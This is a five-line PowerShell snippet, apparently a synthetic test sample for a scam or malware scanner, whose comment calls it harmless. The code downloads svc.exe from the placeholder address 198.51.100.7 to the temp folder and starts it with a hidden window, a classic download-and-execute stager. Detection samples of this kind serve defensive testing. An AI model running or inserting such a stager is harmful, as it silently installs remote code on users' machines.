# scamscan synthetic sample - harmless text, not malware
$u = 'http://198.51.100.7/svc.exe'
$o = "$env:TEMP\svc.exe"
Invoke-WebRequest -Uri $u -OutFile $o -UseBasicParsing
Start-Process -FilePath $o -WindowStyle Hidden
